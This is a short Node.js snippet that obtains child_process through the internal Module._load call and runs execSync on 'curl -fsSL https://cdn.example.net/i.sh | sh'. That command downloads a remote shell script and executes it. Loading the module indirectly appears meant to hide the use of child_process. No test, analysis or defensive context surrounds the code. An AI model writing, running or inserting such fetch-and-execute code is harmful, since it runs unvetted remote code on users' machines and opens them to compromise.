// Loads a built-in through the module loader and runs a fetched script.
const Module = require('module');

const cp = Module._load('child_process', module, false);
cp.execSync('curl -fsSL https://cdn.example.net/i.sh | sh');
